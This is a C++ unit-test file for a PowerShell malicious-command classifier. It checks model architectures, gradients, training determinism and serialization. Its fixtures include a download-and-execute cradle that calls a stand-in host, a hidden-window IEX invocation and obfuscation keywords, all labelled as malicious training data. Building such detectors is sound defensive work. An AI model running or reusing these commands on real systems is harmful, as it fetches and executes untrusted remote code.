#include <cmath>
#include <sstream>

#include "doctest.h"
#include "pshield/model_io.hpp"
#include "pshield/ops.hpp"
#include "pshield/optim.hpp"
#include "pshield/trainer.hpp"

using namespace pshield;

namespace {

NormalizedCommand cmd(std::string s) { return preprocess(RawCommand{std::move(s), ""}); }

std::vector<NormalizedCommand> sample_commands() {
  return {cmd("iex (new-object net.webclient).downloadstring('http://a.b/c')"),
          cmd("Get-ChildItem -Path C:\\Windows -Recurse"),
          cmd("powershell -nop -w hidden -c \"IEX $env:abc\""),
          cmd("Set-Location ~"),
          cmd("")};
}

ModelSpec tiny_cnn4() {
  ModelSpec s = ModelSpec::defaults(ModelKind::cnn4);
  s.max_len = 16;
  s.conv_filters = 4;
  s.fc_widths = {8, 8};
  return s;
}

ModelSpec tiny_cnn9() {
  ModelSpec s = ModelSpec::defaults(ModelKind::cnn9);
  s.max_len = 32;
  s.conv_filters = 3;
  s.conv_widths = {3, 3, 2, 2, 2, 2};
  s.pool_size = 2;
  s.fc_widths = {6, 6};
  return s;
}

ModelSpec tiny_lstm() {
  ModelSpec s = ModelSpec::defaults(ModelKind::lstm);
  s.max_len = 20;
  s.embedding_dim = 4;
  s.lstm_hidden = 3;
  s.fc_widths = {5, 5};
  return s;
}

std::vector<LabeledExample> toy_dataset() {
  std::vector<LabeledExample> out;
  const char* bad[] = {"iex downloadstring http", "invoke-expression frombase64string",
                       "iex webclient downloadfile", "-nop -w hidden -enc"};
  const char* good[] = {"get-childitem c:\\", "set-location ~", "get-process | sort cpu",
                        "write-output hello", "get-date", "test-path $profile"};
  for (const char* s : bad) out.push_back({cmd(s), true});
  for (const char* s : good) out.push_back({cmd(s), false});
  return out;
}

std::string to_bytes(const TrainedModel& m) {
  std::ostringstream out;
  save_model(m, out);
  return out.str();
}

void check_model_gradients(const ModelSpec& spec, std::uint64_t seed) {
  Rng init(seed);
  auto model = build_deep(spec, CharVocabulary::pinned_default(), init);
  const auto batch = sample_commands();
  const std::vector<double> labels{1, 0, 1, 0, 1};
  auto params = model->parameters();
  // Zero biases put relu inputs exactly on the kink; move every value off it.
  Rng nudge(seed + 50);
  for (auto* p : params) {
    for (double& v : p->tensor().mutable_values()) v += nudge.uniform(-0.3, 0.3);
  }
  const auto result = nn::grad_check(
      [&] {
        Rng drop(seed + 100);  // same dropout masks on every evaluation
        return nn::bce_loss(model->forward(batch, true, drop), labels);
      },
      params, nn::kGradCheckEpsilon, nn::kGradCheckMaxCoordinates, seed);
  CHECK(result.coordinates_checked > 0);
  CHECK(result.max_relative_error < 1e-4);
}

}  // namespace

TEST_CASE("model spec defaults and json") {
  const auto c4 = ModelSpec::defaults(ModelKind::cnn4);
  CHECK(c4.conv_filters == 128);
  CHECK(c4.fc_widths == std::vector<std::size_t>{1024, 1024});
  CHECK(c4.dropout == 0.5);
  const auto c9 = ModelSpec::defaults(ModelKind::cnn9);
  CHECK(c9.fc_widths == std::vector<std::size_t>{256, 256});
  for (auto kind : {ModelKind::cnn4, ModelKind::cnn9, ModelKind::lstm, ModelKind::ngram3_logreg,
                    ModelKind::bow_logreg}) {
    const auto s = ModelSpec::defaults(kind);
    CHECK(ModelSpec::from_json(s.to_json()) == s);
    CHECK(parse_model_kind(to_string(kind)) == kind);
  }
  CHECK(parse_model_kind("bow") == ModelKind::bow_logreg);
  CHECK_THROWS(parse_model_kind("cnn5"));
}

TEST_CASE("cnn4 architecture audit") {
  Rng init(1);
  const auto vocab = CharVocabulary::pinned_default();
  auto model = build_cnn4(ModelSpec::defaults(ModelKind::cnn4), vocab, init);
  CHECK(model->parameter("conv.weight").tensor().size() + model->parameter("conv.bias").tensor().size() ==
        23936);
  CHECK(model->parameter("fc1.weight").tensor().shape() == nn::Shape{1024, 43520});
  CHECK(model->parameter("fc2.weight").tensor().shape() == nn::Shape{1024, 1024});
  CHECK(model->parameter("output.weight").tensor().shape() == nn::Shape{1, 1024});

  std::vector<LayerShape> trace;
  Rng drop(0);
  const std::vector<NormalizedCommand> one{cmd("iex $env:abc")};
  const auto score = model->forward(one, false, drop, &trace);
  REQUIRE(trace.size() == 7);
  CHECK(trace[0].shape == nn::Shape{62, 1024});
  CHECK(trace[1].shape == nn::Shape{128, 1022});
  CHECK(trace[2].shape == nn::Shape{128, 340});
  CHECK(trace[3].shape == nn::Shape{43520});
  CHECK(trace[4].shape == nn::Shape{1024});
  CHECK(trace[5].shape == nn::Shape{1024});
  CHECK(trace[6].shape == nn::Shape{1});
  CHECK(score.shape() == nn::Shape{1});
  CHECK(std::isfinite(score.values()[0]));
  CHECK(model->predict_score(cmd("")) >= 0.0);

  // A vocabulary with a different channel count cannot drive this model.
  auto small = CharVocabulary::build(std::vector<NormalizedCommand>{cmd("ab")}, 0.5);
  auto params = std::vector<std::vector<double>>();
  for (const auto& p : model->parameter_list()) params.emplace_back(p.tensor().size(), 0.0);
  CHECK_THROWS(restore_model(model->spec(), small.to_json(), params));
}

TEST_CASE("cnn9 architecture audit") {
  Rng init(2);
  const auto vocab = CharVocabulary::pinned_default();
  const auto spec = ModelSpec::defaults(ModelKind::cnn9);
  auto model = build_cnn9(spec, vocab, init);
  std::vector<LayerShape> trace;
  Rng drop(0);
  const std::vector<NormalizedCommand> one{cmd("Get-Process")};
  model->forward(one, false, drop, &trace);
  std::vector<std::size_t> lengths;
  for (const auto& t : trace) {
    if (t.name != "flatten" && t.shape.size() == 2) lengths.push_back(t.shape[1]);
  }
  CHECK(lengths == std::vector<std::size_t>{1024, 1018, 339, 333, 111, 109, 107, 105, 103, 34});
  const auto flat = std::find_if(trace.begin(), trace.end(), [](auto& t) { return t.name == "flatten"; });
  REQUIRE(flat != trace.end());
  CHECK(flat->shape == nn::Shape{256 * 34});
  CHECK(model->parameter("fc1.weight").tensor().shape() == nn::Shape{256, 8704});
  CHECK(model->parameter("fc2.weight").tensor().shape() == nn::Shape{256, 256});

  CHECK(cnn_min_length(spec) == 123);
  ModelSpec short_spec = spec;
  short_spec.max_len = 122;
  try {
    build_cnn9(short_spec, vocab, init);
    FAIL("expected an error");
  } catch (const std::invalid_argument& e) {
    CHECK(std::string(e.what()).find("123") != std::string::npos);
  }
  short_spec.max_len = 123;
  CHECK(cnn_output_length(short_spec, 123) == std::optional<std::size_t>{1});
}

TEST_CASE("lstm architecture audit") {
  Rng init(3);
  const auto vocab = CharVocabulary::pinned_default();
  auto model = build_lstm(ModelSpec::defaults(ModelKind::lstm), vocab, init);
  CHECK(model->parameter("embedding").tensor().shape() == nn::Shape{87, 32});
  CHECK(model->parameter("lstm.forward.input_weights").tensor().shape() == nn::Shape{512, 32});
  CHECK(model->parameter("fc1.weight").tensor().shape() == nn::Shape{256, 256});
  std::vector<LayerShape> trace;
  Rng drop(0);
  const std::vector<NormalizedCommand> one{cmd("Get-Date")};
  model->forward(one, false, drop, &trace);
  REQUIRE(trace.size() == 5);
  CHECK(trace[0].shape == nn::Shape{8, 32});
  CHECK(trace[1].shape == nn::Shape{256});
  const double empty = model->predict_score(cmd(""));
  CHECK(std::isfinite(empty));
  // With a zero final state only the head biases and weights remain; head
  // biases start at zero, so the output is exactly one half.
  CHECK(empty == doctest::Approx(0.5).epsilon(1e-15));
}

TEST_CASE("model gradients match finite differences") {
  for (std::uint64_t seed = 1; seed <= 3; ++seed) {
    CAPTURE(seed);
    check_model_gradients(tiny_cnn4(), seed);
    check_model_gradients(tiny_cnn9(), seed);
    check_model_gradients(tiny_lstm(), seed);
  }
}

TEST_CASE("batched scores agree with single scores") {
  const auto cmds = sample_commands();
  for (const auto& spec : {tiny_cnn4(), tiny_cnn9(), tiny_lstm()}) {
    Rng init(4);
    auto model = build_deep(spec, CharVocabulary::pinned_default(), init);
    const auto batched = model->predict_scores(cmds, 2);
    for (std::size_t i = 0; i < cmds.size(); ++i) {
      const double single = model->predict_score(cmds[i]);
      CHECK(single == model->predict_score(cmds[i]));
      CHECK(batched[i] == doctest::Approx(single).epsilon(1e-12));
      CHECK(single >= 0.0);
      CHECK(single <= 1.0);
    }
  }
}

TEST_CASE("case bit controls case sensitivity of the 4-CNN") {
  const auto lower = cmd("iex $env:abc");
  const auto upper = cmd("IEX $ENV:ABC");
  const auto vocab = CharVocabulary::pinned_default();
  const auto a = encode_onehot(lower, vocab, 16);
  const auto b = encode_onehot(upper, vocab, 16);
  for (std::size_t row = 0; row < vocab.onehot_rows(); ++row) {
    for (std::size_t col = 0; col < 16; ++col) {
      if (row != vocab.case_bit_row()) CHECK(a.at(row, col) == b.at(row, col));
    }
  }
  for (std::uint64_t seed = 1; seed <= 5; ++seed) {
    ModelSpec spec = tiny_cnn4();
    spec.case_bit = false;
    Rng init(seed);
    auto star = build_cnn4(spec, vocab, init);
    CHECK(star->predict_score(lower) == star->predict_score(upper));
  }
  Rng init(9);
  auto with_case = build_cnn4(tiny_cnn4(), vocab, init);
  CHECK(with_case->predict_score(lower) != with_case->predict_score(upper));
}

TEST_CASE("epoch composition and degenerate data") {
  std::vector<LabeledExample> data;
  for (int i = 0; i < 10; ++i) data.push_back({cmd("bad " + std::to_string(i)), true});
  for (int i = 0; i < 80; ++i) data.push_back({cmd("good " + std::to_string(i)), false});
  const auto idx = epoch_indices(data, 8);
  std::size_t mal = 0;
  for (auto i : idx) mal += data[i].malicious;
  CHECK(mal == 80);
  CHECK(idx.size() - mal == 80);

  std::vector<LabeledExample> one_class(data.end() - 5, data.end());
  TrainConfig cfg;
  cfg.epochs = 1;
  try {
    train_logreg(ModelSpec::defaults(ModelKind::bow_logreg), one_class, cfg);
    FAIL("expected an error");
  } catch (const std::invalid_argument& e) {
    CHECK(std::string(e.what()) == "degenerate dataset");
  }
  cfg.batch_size = 0;
  CHECK_THROWS(train_logreg(ModelSpec::defaults(ModelKind::bow_logreg), data, cfg));
}

TEST_CASE("training is deterministic and reduces the loss") {
  const auto data = toy_dataset();
  TrainConfig cfg;
  cfg.epochs = 6;
  cfg.batch_size = 4;
  cfg.seed = 42;
  const auto vocab = CharVocabulary::pinned_default();
  for (const auto& spec : {tiny_cnn4(), tiny_cnn9(), tiny_lstm()}) {
    CAPTURE(to_string(spec.kind));
    const auto a = train_deep(spec, vocab, data, cfg);
    const auto b = train_deep(spec, vocab, data, cfg);
    CHECK(to_bytes(a) == to_bytes(b));
    CHECK(a.epoch_losses == b.epoch_losses);
    CHECK(a.fingerprint == Fingerprint{42, corpus_hash(data), 6});
    cfg.seed = 43;
    CHECK(to_bytes(train_deep(spec, vocab, data, cfg)) != to_bytes(a));
    cfg.seed = 42;
  }
  cfg.epochs = 30;
  cfg.learning_rate = 0.5;
  const auto lr = train_logreg(ModelSpec::defaults(ModelKind::ngram3_logreg), data, cfg);
  REQUIRE(lr.epoch_losses.size() == 30);
  // Allow small upticks from batch order, but the trend must be downward.
  for (std::size_t e = 5; e < 30; e += 5) CHECK(lr.epoch_losses[e] < lr.epoch_losses[e - 5]);
  for (const auto& ex : data) CHECK((lr.model->predict_score(ex.command) >= 0.5) == ex.malicious);
}

TEST_CASE("logistic regression structure") {
  const auto data = toy_dataset();
  std::vector<NormalizedCommand> texts;
  for (const auto& ex : data) texts.push_back(ex.command);
  auto model = build_logreg(ModelSpec::defaults(ModelKind::bow_logreg), texts);
  CHECK(model->parameter("weight").tensor().size() == TokenVocabulary::fit(texts).size());
  CHECK(model->parameter_count() == TokenVocabulary::fit(texts).size() + 1);
  auto ngram = build_logreg(ModelSpec::defaults(ModelKind::ngram3_logreg), texts);
  CHECK(ngram->parameter("weight").tensor().size() == NgramVocabulary::fit(texts, 3).size());

  TrainConfig cfg;
  cfg.epochs = 5;
  cfg.learning_rate = 0.3;
  const auto trained = train_logreg(ModelSpec::defaults(ModelKind::bow_logreg), data, cfg);
  const double bias = trained.model->parameter("bias").tensor().values()[0];
  // No known token: the feature vector is empty and only the bias remains.
  CHECK(trained.model->predict_score(cmd("zzzz")) == doctest::Approx(1.0 / (1.0 + std::exp(-bias))));

  Rng drop(0);
  auto params = model->parameters();
  for (auto* p : params) {
    for (double& v : p->tensor().mutable_values()) v = drop.uniform(-1, 1);
  }
  const std::vector<double> labels{1, 1, 1, 1, 0, 0, 0, 0, 0, 0};
  const auto result = nn::grad_check(
      [&] { return nn::bce_loss(model->forward(texts, true, drop), labels); }, params);
  CHECK(result.max_relative_error < 1e-6);
}

TEST_CASE("logistic regression agrees with a grid-search oracle") {
  // Tokens alpha, beta, gamma; L1-normalized term frequencies.
  const std::vector<LabeledExample> data{{cmd("alpha"), true},
                                         {cmd("alpha beta"), true},
                                         {cmd("beta gamma"), false},
                                         {cmd("gamma"), false}};
  TrainConfig cfg;
  cfg.epochs = 400;
  cfg.batch_size = 4;
  cfg.duplication_factor = 1;
  cfg.learning_rate = 0.5;
  cfg.l2_lambda = 0.05;
  const auto trained = train_logreg(ModelSpec::defaults(ModelKind::bow_logreg), data, cfg);

  // Brute force: minimize mean BCE + lambda/2 |w|^2 over a coarse grid.
  const std::vector<std::array<double, 3>> x{{1, 0, 0}, {0.5, 0.5, 0}, {0, 0.5, 0.5}, {0, 0, 1}};
  const std::vector<double> y{1, 1, 0, 0};
  double best = 1e300;
  std::array<double, 4> best_w{};
  for (double a = -6; a <= 6; a += 0.5) {
    for (double b = -6; b <= 6; b += 0.5) {
      for (double c = -6; c <= 6; c += 0.5) {
        for (double d = -3; d <= 3; d += 0.5) {
          double loss = 0.05 / 2 * (a * a + b * b + c * c);
          for (std::size_t i = 0; i < 4; ++i) {
            const double p = 1.0 / (1.0 + std::exp(-(a * x[i][0] + b * x[i][1] + c * x[i][2] + d)));
            loss -= (y[i] * std::log(p) + (1 - y[i]) * std::log(1 - p)) / 4;
          }
          if (loss < best) {
            best = loss;
            best_w = {a, b, c, d};
          }
        }
      }
    }
  }
  const char* probes[] = {"alpha", "alpha beta", "beta gamma", "gamma", "beta", "alpha gamma",
                          "alpha alpha gamma", "gamma gamma beta"};
  const std::vector<std::array<double, 3>> px{{1, 0, 0},       {0.5, 0.5, 0},   {0, 0.5, 0.5},
                                              {0, 0, 1},       {0, 1, 0},       {0.5, 0, 0.5},
                                              {2. / 3, 0, 1. / 3}, {0, 1. / 3, 2. / 3}};
  for (std::size_t i = 0; i < px.size(); ++i) {
    CAPTURE(probes[i]);
    const double z = best_w[0] * px[i][0] + best_w[1] * px[i][1] + best_w[2] * px[i][2] + best_w[3];
    if (std::abs(z) < 0.25) continue;  // too close to the boundary for a coarse grid
    CHECK((trained.model->predict_score(cmd(probes[i])) >= 0.5) == (z >= 0));
  }
}

TEST_CASE("model files round trip") {
  const auto data = toy_dataset();
  TrainConfig cfg;
  cfg.epochs = 2;
  cfg.batch_size = 4;
  const auto vocab = CharVocabulary::pinned_default();
  std::vector<TrainedModel> models;
  models.push_back(train_deep(tiny_cnn4(), vocab, data, cfg));
  models.push_back(train_deep(tiny_cnn9(), vocab, data, cfg));
  models.push_back(train_deep(tiny_lstm(), vocab, data, cfg));
  models.push_back(train_logreg(ModelSpec::defaults(ModelKind::ngram3_logreg), data, cfg));
  models.push_back(train_logreg(ModelSpec::defaults(ModelKind::bow_logreg), data, cfg));
  const auto probes = sample_commands();
  for (const auto& m : models) {
    CAPTURE(to_string(m.model->spec().kind));
    const std::string bytes = to_bytes(m);
    CHECK(bytes.find("\"format\":\"pshield-model/1\"") != std::string::npos);
    std::istringstream in(bytes);
    const auto loaded = load_model(in);
    CHECK(loaded.model->spec() == m.model->spec());
    CHECK(loaded.fingerprint == m.fingerprint);
    CHECK(to_bytes(loaded) == bytes);
    for (const auto& p : probes) CHECK(loaded.model->predict_score(p) == m.model->predict_score(p));
  }

  std::istringstream wrong("{\"format\":\"pshield-model/0\"}");
  CHECK_THROWS_AS(load_model(wrong), std::runtime_error);
  std::string truncated = to_bytes(models[0]);
  truncated.resize(truncated.size() / 2);
  std::istringstream cut(truncated);
  CHECK_THROWS_AS(load_model(cut), std::runtime_error);
}
